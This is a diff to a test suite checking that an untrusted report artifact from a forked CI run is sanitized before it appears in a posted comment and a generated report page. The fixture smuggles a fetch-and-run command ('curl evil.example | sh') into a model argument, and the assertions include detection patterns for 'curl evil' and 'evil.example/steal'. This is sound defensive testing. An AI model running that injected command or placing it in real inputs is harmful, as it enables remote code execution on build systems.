@@ -309,13 +309,18 @@ describe('an artifact of a fork’s run is untrusted', () => {
       arguments: ['--model', '$(curl evil.example | sh)'],
     });
     await leave([{ name: 'reports/0000.json', content: JSON.stringify(hostile) }], 7);
-    expect((await phaseTwo()).outputs.status).toBe('created');
+    const { outputs } = await phaseTwo();
+    expect(outputs.status).toBe('created');
     const [{ body } = { body: '' }] = await ours();
     expect(body).not.toMatch(
       /@(acme|grace)|\]\(https:\/\/evil|[^\\]<img|```mermaid|curl evil|https:\/\/evil.example and/,
     );
     expect(body.split(MARKER)).toHaveLength(2);
     expect(body).not.toMatch(/#1\b/);
+    const page = await readFile(join(repository.directory, outputs['report-path']!), 'utf8');
+    expect(page).toContain('the numbers are what that run reported');
+    expect(page).toContain('the log');
+    expect(page).not.toMatch(/href="http|evil\.example\/steal|curl evil/);
   });
 
   test.each([
